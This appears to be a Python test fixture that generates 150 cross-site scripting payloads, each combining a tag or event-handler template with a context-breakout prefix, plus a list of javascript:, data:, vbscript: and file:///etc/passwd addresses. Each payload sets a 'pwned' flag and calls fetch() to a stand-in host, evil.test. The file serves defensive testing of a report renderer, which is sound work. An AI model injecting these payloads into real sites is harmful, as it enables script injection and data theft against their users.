"""150 attempts to have a browser run what a report says: any that ran would set ``pwned`` or ask others."""

CODE = "window.pwned=1;fetch('//evil.test/x')"
_TAGS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src='javascript:{}'>", "<body onload={}>",
    "<details open ontoggle={}>x</details>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>",
    "<marquee onstart={}>x</marquee>", "<object data='javascript:{}'>", "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>", "<form action='javascript:{}'><button>x</button></form>",
    "<math><mtext><script>{}</script></mtext></math>", "<style onload={}>*{{}}</style>",
    "<link rel=stylesheet href='//evil.test/x.css' onload={}>", "<base href='//evil.test/'>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<template><script>{}</script></template>",
    "<noscript><img src=x onerror={}></noscript>", "<xmp><script>{}</script></xmp>",
    "<dialog open onclose={}>x</dialog>",
    "<button popovertarget=x onclick={}>x</button>", "<p style='background:url(//evil.test/x)'>{}</p>",
    "<img src='//evil.test/x.png' alt=\"{}\">",
)  # fmt: skip
_BREAKS = ("", '">', "'>", "</script>", "-->")  # ways out of where the text may stand
PAYLOADS = tuple(out + tag.format(CODE) for tag in _TAGS for out in _BREAKS)
ADDRESSES = (
    f"javascript:{CODE}",
    f"JaVaScRiPt:{CODE}",
    f" javascript:{CODE}",
    f"java\tscript:{CODE}",
    f"data:text/html,<script>{CODE}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.test/x",
)
assert len(PAYLOADS) == 150
